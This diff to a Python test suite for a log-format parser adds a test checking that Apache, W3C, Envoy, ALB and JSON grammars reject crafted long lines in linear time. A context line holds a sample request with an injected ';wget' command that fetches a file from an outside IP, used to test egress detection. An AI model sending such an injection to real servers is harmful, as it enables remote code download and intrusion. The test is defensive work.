@@ -336,3 +336,26 @@ def test_apache_json_logformat(tmp_path):
     assert (f.client_ip, f.host, f.method, f.status) == ("203.0.113.8", "shop.example", "GET", 404)
     assert f.request == "GET /x?c=;wget%20http://198.51.100.6/a"
     assert {d.host for d in f.egress} == {"198.51.100.6", "198.51.100.7"}
+
+
+def test_every_grammar_splits_a_line_one_way_only():
+    """Lines built to make a grammar try every way of splitting them (value lists, quoted and
+    bare values, trailing fields) fail in linear time: 5,000 fields would take ages if not."""
+    import time
+
+    n = 5000
+    cases = {
+        "combined+ %{f1}n %{f2}n %{f3}n %{f4}n %{f5}n %{f6}n": b'1.2.3.4 - - [25/Nov/2026:10:00:00 +0000] "GET / '
+        b'HTTP/1.1" 200 1 "-" "-" ' + b"a, " * n + b"a a a a a a a",
+        "w3c:" + " ".join(f"x{i}" for i in range(20)): b" ".join([b'"a"'] * n) + b' "',
+        "envoy": b'[2019-03-06T09:31:27.354Z] "GET / HTTP/1.1" 200 - 0 1 1 1 "-" "-" "-" "h" "-"'
+        + b' "a"' * n
+        + b"  x",
+        "alb": b'http 2018-07-02T22:23:00.186641Z app/x 1.2.3.4:1 10.0.0.1:80 0.0 0.0 0.0 200 200 1 1 "GET / HTTP/1.1" '
+        b'"c" - - arn "Root" "www.example.com"' + b' "a"' * n + b"  x",
+        "json": b"{" + b'"a":"b",' * n + b'"a"',
+    }
+    t0 = time.perf_counter()
+    for spec, line in cases.items():
+        assert not compile_format(spec).match(line), spec
+    assert time.perf_counter() - t0 < 5  # exponential splitting would take hours
